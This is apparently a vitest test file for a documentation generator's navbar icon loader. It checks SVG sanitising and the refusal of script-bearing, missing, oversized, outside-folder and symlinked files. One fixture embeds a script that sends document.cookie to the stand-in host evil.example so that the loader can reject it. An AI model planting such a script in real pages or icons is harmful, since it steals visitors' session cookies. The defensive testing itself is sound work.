/** Custom navbar icon files: read from the site folder, inlined sanitised, or refused at the config line naming them. */
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { quotedValueLines, validateConfig } from '../../../../src/config/load.js';
import { inlineNavbarIcons, navbarIconData } from '../../../../src/config/navbar-icons.js';

function site(files: Record<string, string>): string {
  const root = mkdtempSync(path.join(tmpdir(), 'docsgen-icons-'));
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(root, file)), { recursive: true });
    writeFileSync(path.join(root, file), text);
  }
  return root;
}

const source = (svg: string) =>
  `export default defineConfig({\n  title: 'Site',\n  navbar: {\n    items: [{ type: 'link', label: 'Ours', href: 'https://x.example', icon: { svg: '${svg}' } }],\n  },\n});`;

function inline(root: string, svg: string) {
  const config = validateConfig(
    { title: 'Site', url: 'https://docs.example.com', navbar: { items: [{ type: 'link', label: 'Ours', href: 'https://x.example', icon: { svg } }] } },
    'site.config.ts',
  );
  const lineOf = quotedValueLines(source(svg));
  return inlineNavbarIcons(config, root, (file) => ({ file: 'site.config.ts', line: lineOf(file) }));
}

describe('inlineNavbarIcons', () => {
  it('puts the sanitised drawing into the config, and the theme gets only the drawing', () => {
    const root = site({ 'static/img/ours.svg': '<svg viewBox="0 0 24 24"><path d="M2 2h20v20H2z"/></svg>' });
    const { config, diagnostics } = inline(root, './static/img/ours.svg');
    expect(diagnostics).toEqual([]);
    const item = config.navbar.items[0]!;
    if (item.type !== 'link') throw new Error('expected a link');
    const element = { tag: 'svg', attrs: { viewBox: '0 0 24 24' }, children: [{ tag: 'path', attrs: { d: 'M2 2h20v20H2z' }, children: [] }] };
    expect(item.icon).toEqual({ svg: './static/img/ours.svg', element });
    expect(navbarIconData(item.icon)).toEqual({ svg: element });
    // A built-in icon also reaches the theme as its drawing, so the browser bundle holds no icon table.
    expect(navbarIconData('rss')).toMatchObject({ name: 'rss', svg: { tag: 'svg', attrs: { viewBox: '0 0 24 24' }, children: [{ tag: 'path' }] } });
  });

  it('refuses a file with a script, at the config line that names it', () => {
    const root = site({ 'static/bad.svg': '<svg viewBox="0 0 24 24">\n  <script>fetch("https://evil.example/" + document.cookie)</script>\n</svg>' });
    const { config, diagnostics } = inline(root, 'static/bad.svg');
    expect(diagnostics).toHaveLength(1);
    expect(diagnostics[0]).toMatchObject({ severity: 'error', code: 'navbar-icon-invalid', file: 'site.config.ts', line: 4 });
    expect(diagnostics[0]!.message).toBe(
      'The navbar icon static/bad.svg (line 2) holds a `<script>` element, which a navbar icon may not: the icon is drawn inside every page.',
    );
    const item = config.navbar.items[0]!;
    expect(item.type === 'link' && navbarIconData(item.icon)).toBeUndefined();
  });

  it('names a missing file, a file outside the site and a file too large', () => {
    const root = site({ 'big.svg': `<svg>${'<path d="M0 0"/>'.repeat(2000)}</svg>` });
    expect(inline(root, 'nope.svg').diagnostics[0]!.message).toBe('The navbar icon nope.svg cannot be read: there is no such file.');
    expect(inline(root, 'big.svg').diagnostics[0]!.message).toMatch(/^The navbar icon big\.svg is 32 KB, over the 16 KB an icon may be/);
    const outside = site({ 'elsewhere.svg': '<svg/>' });
    expect(inline(root, path.join(outside, 'elsewhere.svg')).diagnostics[0]!.code).toBe('navbar-icon-invalid');
    expect(inline(root, path.join(outside, 'elsewhere.svg')).diagnostics[0]!.message).toContain('is outside the site folder');
    symlinkSync(path.join(outside, 'elsewhere.svg'), path.join(root, 'linked.svg'));
    expect(inline(root, 'linked.svg').diagnostics[0]!.message).toBe(
      'The navbar icon linked.svg is outside the site folder; docsgen reads only files inside the site.',
    );
  });
});
